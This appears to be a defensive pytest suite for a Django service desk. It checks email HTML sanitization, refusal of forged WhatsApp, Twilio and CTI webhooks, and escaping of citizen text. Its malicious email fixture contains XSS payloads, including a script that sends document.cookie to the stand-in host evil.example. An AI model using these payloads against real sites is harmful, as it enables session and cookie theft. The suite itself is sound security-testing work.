"""Inbound content from outside: HTML is sanitized, forged webhooks are refused and nothing is stored."""

import hashlib
import hmac
import json

import pytest

from channels_app.email_parsing import parse_email
from channels_app.models import InboundMessage

MALICIOUS_EMAIL = b"""From: Mallory <mallory@example.org>
To: sportello@example.org
Subject: Permesso di soggiorno
Message-ID: <evil-1@example.org>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p onclick="steal()">Buongiorno,</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)">
<a href="javascript:alert(2)">clicca qui</a>
<a href="https://www.interno.gov.it/">ministero</a>
<iframe src="https://evil.example/"></iframe>
<style>body{display:none}</style>
"""


def test_malicious_html_email_is_sanitized():
    parsed = parse_email(MALICIOUS_EMAIL)
    html = parsed.html.lower()
    for forbidden in ("<script", "onerror", "onclick", "javascript:", "<iframe", "<style", "document.cookie"):
        assert forbidden not in html, forbidden
    assert "buongiorno" in html
    assert "https://www.interno.gov.it/" in html  # ordinary links survive


@pytest.fixture
def webhook_secrets(settings):
    settings.WHATSAPP_APP_SECRET = "app-secret"
    settings.WHATSAPP_VERIFY_TOKEN = "verify"
    settings.TWILIO_AUTH_TOKEN = "twilio-token"
    settings.CTI_TOKEN = "cti-token-correct"


WHATSAPP_BODY = json.dumps(
    {
        "object": "whatsapp_business_account",
        "entry": [
            {
                "id": "1",
                "changes": [
                    {
                        "field": "messages",
                        "value": {
                            "messaging_product": "whatsapp",
                            "metadata": {"phone_number_id": "1"},
                            "contacts": [{"wa_id": "393331112233", "profile": {"name": "X"}}],
                            "messages": [
                                {
                                    "from": "393331112233",
                                    "id": "wamid.FORGED",
                                    "timestamp": "1700000000",
                                    "type": "text",
                                    "text": {"body": "forged"},
                                }
                            ],
                        },
                    }
                ],
            }
        ],
    }
).encode()


@pytest.mark.parametrize(
    "signature",
    [
        "",
        "sha256=" + "0" * 64,
        "sha256=" + hmac.new(b"wrong-secret", WHATSAPP_BODY, hashlib.sha256).hexdigest(),
        "sha1=" + hmac.new(b"app-secret", WHATSAPP_BODY, hashlib.sha1).hexdigest(),
    ],
)
def test_forged_whatsapp_webhook_is_refused(client, db, webhook_secrets, signature):
    headers = {"HTTP_X_HUB_SIGNATURE_256": signature} if signature else {}
    response = client.post("/webhooks/whatsapp/", WHATSAPP_BODY, content_type="application/json", **headers)
    assert response.status_code == 403
    assert not InboundMessage.objects.exists()


def test_signed_whatsapp_webhook_is_accepted(client, db, webhook_secrets):
    signature = "sha256=" + hmac.new(b"app-secret", WHATSAPP_BODY, hashlib.sha256).hexdigest()
    response = client.post(
        "/webhooks/whatsapp/", WHATSAPP_BODY, content_type="application/json", HTTP_X_HUB_SIGNATURE_256=signature
    )
    assert response.status_code == 200
    assert InboundMessage.objects.filter(channel="whatsapp").exists()


def test_whatsapp_body_tampered_after_signing_is_refused(client, db, webhook_secrets):
    signature = "sha256=" + hmac.new(b"app-secret", WHATSAPP_BODY, hashlib.sha256).hexdigest()
    tampered = WHATSAPP_BODY.replace(b"forged", b"FORGED")
    response = client.post(
        "/webhooks/whatsapp/", tampered, content_type="application/json", HTTP_X_HUB_SIGNATURE_256=signature
    )
    assert response.status_code == 403
    assert not InboundMessage.objects.exists()


@pytest.mark.parametrize("signature", ["", "bm90LWEtc2lnbmF0dXJl"])
def test_forged_voicemail_webhook_is_refused(client, db, webhook_secrets, signature):
    body = {"CallSid": "CA1", "RecordingUrl": "https://api.twilio.com/rec/RE1", "From": "+393331112233"}
    headers = {"HTTP_X_TWILIO_SIGNATURE": signature} if signature else {}
    response = client.post("/webhooks/voicemail/", body, **headers)
    assert response.status_code == 403
    assert not InboundMessage.objects.exists()


@pytest.mark.parametrize("token", ["wrong", "cti-token-correc", "cti-token-correct-and-more"])
def test_cti_with_a_wrong_token_is_refused(client, db, webhook_secrets, token):
    response = client.post(f"/api/v1/cti/{token}", {"event": "ringing"}, content_type="application/json")
    assert response.status_code == 403
    assert not InboundMessage.objects.exists()


def test_cti_with_no_token_configured_refuses_everything(client, db, settings):
    settings.CTI_TOKEN = ""
    assert client.post("/api/v1/cti/anything", {}, content_type="application/json").status_code == 403


def test_citizen_text_is_escaped_on_the_desk(client, front_queue, front_operator):
    from django.urls import reverse

    from tests.factories import open_test_ticket

    ticket = open_test_ticket(
        front_queue, channel="web", text='<script>alert("x")</script><img src=x onerror=alert(1)>'
    )
    client.force_login(front_operator)
    page = client.get(reverse("desk:ticket", args=[ticket.pk])).text
    assert '<script>alert("x")' not in page
    assert "<img src=x onerror" not in page
    assert "&lt;script&gt;" in page
